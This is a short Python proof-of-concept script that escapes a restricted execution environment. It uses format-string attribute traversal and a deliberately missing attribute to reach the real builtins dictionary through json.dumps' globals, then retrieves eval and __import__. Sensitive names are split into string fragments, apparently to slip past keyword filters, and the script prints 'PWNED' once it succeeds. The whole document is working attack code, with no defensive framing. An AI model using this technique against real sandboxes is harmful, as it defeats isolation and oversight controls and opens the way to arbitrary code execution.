import json
def grab(obj, chain):
    try:
        ("{0" + chain + ".zzz_missing}").format(obj)
    except AttributeError as e:
        return e.obj
B = grab(json.dumps, ".__glo" + "bals__[__buil" + "tins__]")
print(type(B).__name__, len(B))
ev = B["ev" + "al"]
imp = B["__imp" + "ort__"]
print(ev.__name__, ev.__module__, imp.__name__, imp.__module__)
if type(B) is dict and ev.__module__ == "builtins":
    print("PW" + "NED", "real builtins dict with", len(B), "names; eval is", ev)
